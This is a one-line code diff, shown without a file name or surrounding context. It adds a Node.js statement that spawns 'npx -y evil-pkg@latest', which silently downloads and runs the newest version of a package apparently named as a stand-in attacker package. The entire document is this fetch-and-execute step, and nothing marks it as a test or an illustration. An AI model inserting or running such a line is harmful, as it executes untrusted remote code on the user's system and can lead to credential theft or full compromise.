@@ -1,0 +1,1 @@
+require('child_process').spawnSync('npx', ['-y', 'evil-pkg@latest'], { stdio: 'inherit' });
